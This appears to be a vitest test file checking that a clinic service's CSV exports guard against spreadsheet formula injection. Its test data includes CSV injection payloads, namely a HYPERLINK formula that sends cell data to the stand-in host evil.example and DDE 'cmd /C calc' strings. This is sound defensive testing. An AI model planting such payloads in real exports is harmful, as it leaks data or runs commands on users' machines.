// Formula injection in CSV exports: a text cell that a spreadsheet would evaluate (it begins with
// =, +, -, @, tab or CR, or their compatibility forms such as fullwidth ＝＋－＠) is written with a
// single quote in front and quoted, in every CSV export (interactions, with and without phi:read;
// metrics breakdown by clinic and campaign). The files still parse as strict RFC 4180, numbers
// stay numbers, NDJSON keeps the values as stored, and removing the one quote gives the stored
// value back.
import { beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../bench/csv.js';
import { SCOPES } from '../../src/domain/values.js';
import { bytesStartFormula, csvField, startsFormula } from '../../src/rest/exports/csv.js';
import { createKey, testApp } from '../helpers/app.js';
import { testDb } from '../helpers/db.js';
import { createCampaign, createClinic, createInteraction } from '../helpers/factories.js';
import { serveOverHttp } from '../helpers/http-server.js';
import { csvObjects, parseNdjson } from './exports-support.js';

const db = testDb();
const server = await serveOverHttp(testApp(db));

/** Stored values a spreadsheet would take for formulas (each begins with a trigger, some behind quotes). */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  '﹦1+1',
  '⁺1',
  "'=1+1",
  "''@x",
];
/** Stored values that must come back exactly as stored. */
const HARMLESS = ['A plain summary', ' =1+1 behind a space', "'quoted but harmless", '1+1=2', 'Ünïcödé ✓, "quoted"'];

/** Independently of the service's code: would a spreadsheet read this cell as a formula? */
const evaluated = (cell: string) => /^[=+\-@\t\r]/.test(cell.normalize('NFKC'));
/** The stored value of a cell: one leading quote removed when a trigger follows the quotes. */
const stored = (cell: string) => (cell.startsWith("'") && evaluated(cell.replace(/^'+/, '')) ? cell.slice(1) : cell);

const CSV = 'text/csv';
let clinic: { id: string; name: string };
let campaign: { id: string; name: string };
let keyPhi: string;
let keyMasked: string;

async function get(path: string, key: string, accept: string): Promise<{ status: number; text: string }> {
  const answer = await fetch(`${server.baseUrl}${path}`, { headers: { authorization: `Bearer ${key}`, accept, 'accept-encoding': 'identity' } });
  return { status: answer.status, text: await answer.text() };
}

/** Every cell of a CSV text: none is read as a formula. */
function expectNoFormula(text: string): Array<Record<string, string>> {
  const { rows } = csvObjects(text);
  const offending = rows.flatMap((row) => Object.entries(row).filter(([, cell]) => evaluated(cell)));
  expect(offending).toEqual([]);
  return rows;
}

beforeAll(async () => {
  clinic = await createClinic(db, { name: '@SUM(1+1)*cmd clinic' });
  campaign = await createCampaign(db, clinic.id, { name: '=HYPERLINK("http://evil.example","Campaign")' });
  const values = [...HOSTILE, ...HARMLESS];
  for (const [i, summary] of values.entries()) {
    await createInteraction(db, {
      clinicId: clinic.id,
      channel: 'voice',
      type: 'CAMPAIGN_OUTBOUND',
      campaignId: campaign.id,
      startedAt: new Date(Date.UTC(2026, 2, 3, 10, i)),
      phoneNumber: i % 2 ? '+34 612 345 689' : '-34 612 345 689',
      outcome: i % 3 ? '@outcome' : 'APPOINTMENT_BOOKED',
      summary,
      recordingUrl: i % 4 ? '=recording' : 'https://recordings.example.test/x.mp3',
    });
  }
  keyPhi = await createKey(db, { clinicIds: [clinic.id] });
  keyMasked = await createKey(db, { clinicIds: [clinic.id], scopes: SCOPES.filter((scope) => scope !== 'phi:read') });
});

describe('CSV exports neutralise formulas', () => {
  it('interactions (phi:read): every hostile text cell gets a quote in front, quoted; the rest as stored', async () => {
    const answer = await get(`/api/v1/interactions?clinic_id=${clinic.id}&order=asc`, keyPhi, CSV);
    expect(answer.status).toBe(200);
    const rows = expectNoFormula(answer.text);
    expect(rows.map((row) => stored(row.summary!))).toEqual([...HOSTILE, ...HARMLESS]);
    for (const [i, row] of rows.entries()) {
      if (i < HOSTILE.length) expect(row.summary).toBe(`'${HOSTILE[i]}`);
      else expect(row.summary).toBe(HARMLESS[i - HOSTILE.length]);
      expect(row.phone_number).toBe(i % 2 ? "'+34 612 345 689" : "'-34 612 345 689");
      expect(row.outcome).toBe(i % 3 ? "'@outcome" : 'APPOINTMENT_BOOKED');
      expect(row.recording_url).toBe(i % 4 ? "'=recording" : 'https://recordings.example.test/x.mp3');
      // Numbers and fixed forms untouched.
      expect(row.duration_seconds).toMatch(/^\d+$/);
    }
    // The guarded cells are quoted in the bytes (a spreadsheet sees '=... as text).
    expect(answer.text).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`);
    expect(answer.text).toContain(`,"'+34 612 345 689",`);
    expect(answer.text).toContain(`,"'＝1+1",`);
  });

  it('interactions without phi:read: the masked cells are guarded too', async () => {
    const answer = await get(`/api/v1/interactions?clinic_id=${clinic.id}&order=asc`, keyMasked, CSV);
    expect(answer.status).toBe(200);
    const rows = expectNoFormula(answer.text);
    expect(rows).toHaveLength(HOSTILE.length + HARMLESS.length);
    for (const row of rows) {
      expect(row.phone_number!.startsWith("'+") || row.phone_number!.startsWith("'-")).toBe(true);
      expect(row.phone_number).not.toContain('612 345');
    }
  });

  it('metrics breakdown by clinic and campaign: the names guarded, the figures numbers', async () => {
    const window = 'date_from=2026-03-01&date_to=2026-03-31';
    const answer = await get(`/api/v1/metrics/breakdown?${window}&group_by=clinic,campaign`, keyPhi, CSV);
    expect(answer.status).toBe(200);
    const rows = expectNoFormula(answer.text);
    expect(rows).toHaveLength(1);
    expect(rows[0]!.clinic_name).toBe(`'${clinic.name}`);
    expect(rows[0]!.campaign_name).toBe(`'${campaign.name}`);
    expect(rows[0]!.total_interactions).toBe(String(HOSTILE.length + HARMLESS.length));
    for (const path of [`/api/v1/metrics/daily?${window}`, `/api/v1/metrics/series?${window}&granularity=day`]) {
      const other = await get(path, keyPhi, CSV);
      expect(other.status).toBe(200);
      expectNoFormula(other.text);
    }
  });

  it('NDJSON keeps the values as stored', async () => {
    const answer = await get(`/api/v1/interactions?clinic_id=${clinic.id}&order=asc`, keyPhi, 'application/x-ndjson');
    expect(parseNdjson(answer.text).map((line) => line.summary)).toEqual([...HOSTILE, ...HARMLESS]);
  });

  it('every Unicode code point in front: the text and byte writers agree, and no cell reads as a formula', () => {
    let guarded = 0;
    for (let cp = 0; cp <= 0x10ffff; cp++) {
      if (cp >= 0xd800 && cp <= 0xdfff) continue;
      const text = `${String.fromCodePoint(cp)}1+1`;
      const cell = parseCsv(`${csvField(text)}\r\n`)[0]![0]!;
      if (evaluated(cell) || stored(cell) !== text) throw new Error(`U+${cp.toString(16)}: ${JSON.stringify(cell)}`);
      const bytes = Buffer.from(`"${text}`, 'utf8');
      if (bytesStartFormula(bytes, 1, bytes.length) !== startsFormula(text)) throw new Error(`U+${cp.toString(16)}: the writers disagree`);
      if (cell !== text) guarded++;
    }
    // The six ASCII triggers and their compatibility forms (fullwidth, small, superscript, subscript...).
    expect(guarded).toBeGreaterThan(6 + 4);
  });

  it('a number is a number, text is judged by its first character', () => {
    expect(csvField(-3)).toBe('-3');
    expect(csvField(-0.5)).toBe('-0.5');
    expect(csvField('-3')).toBe(`"'-3"`);
    expect(csvField(null)).toBe('');
    expect(csvField('')).toBe('');
    expect(csvField("'")).toBe("'");
  });
});
